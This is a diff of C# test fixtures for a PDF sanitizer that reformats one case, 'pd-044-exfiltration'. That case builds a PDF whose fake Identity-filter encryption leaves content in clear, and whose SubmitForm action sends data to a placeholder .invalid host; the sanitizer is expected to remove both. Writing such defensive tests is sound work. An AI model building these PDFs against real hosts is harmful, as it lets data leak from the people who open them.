@@ -21,8 +21,11 @@ internal static class PdfSyntaxCarriers
         yield return ("pd-044-aes256-no-password", PdfAes256.Make("hospital"), new Expectation { Verdict = Verdict.NeedsPassword, Reason = Reasons.PasswordNeeded, Format = FileFormat.Pdf });
         yield return ("pd-044-public-key", new PdfMaker { Trailer = "/Encrypt<</Filter/Adobe.PubSec/V 4/R 4/Recipients[(x)]>>" }.Make(), Refused(Reasons.CannotSanitize));
         // An identity filter for strings and streams: what looks encrypted is in clear, with an address to send the rest to.
-        yield return ("pd-044-exfiltration", new PdfMaker(page: Link("<</S/SubmitForm/F(https://CDR-TEST-PD-044.invalid/)>>")) { Trailer = "/ID[(identity)(identity)]/Encrypt<</Filter/Standard/V 4/R 4/Length 128/P -4/StmF/Identity/StrF/Identity/EFF/StdCF"
-            + $"/CF<</StdCF<</CFM/AESV2>>>>/O<{new string('0', 64)}>/U<{PdfAes256.UserEntryOfRevision4()}>>>" }.Make(), Sanitized(["CDR-TEST-PD-044", "/Encrypt"], FindingKind.FormSubmission) with { Kept = [KeptText] });
+        yield return ("pd-044-exfiltration", new PdfMaker(page: Link("<</S/SubmitForm/F(https://CDR-TEST-PD-044.invalid/)>>"))
+        {
+            Trailer = "/ID[(identity)(identity)]/Encrypt<</Filter/Standard/V 4/R 4/Length 128/P -4/StmF/Identity/StrF/Identity/EFF/StdCF"
+            + $"/CF<</StdCF<</CFM/AESV2>>>>/O<{new string('0', 64)}>/U<{PdfAes256.UserEntryOfRevision4()}>>>"
+        }.Make(), Sanitized(["CDR-TEST-PD-044", "/Encrypt"], FindingKind.FormSubmission) with { Kept = [KeptText] });
     }
 
     private static IEnumerable<(string Name, byte[] Bytes, Expectation Expected)> Names()
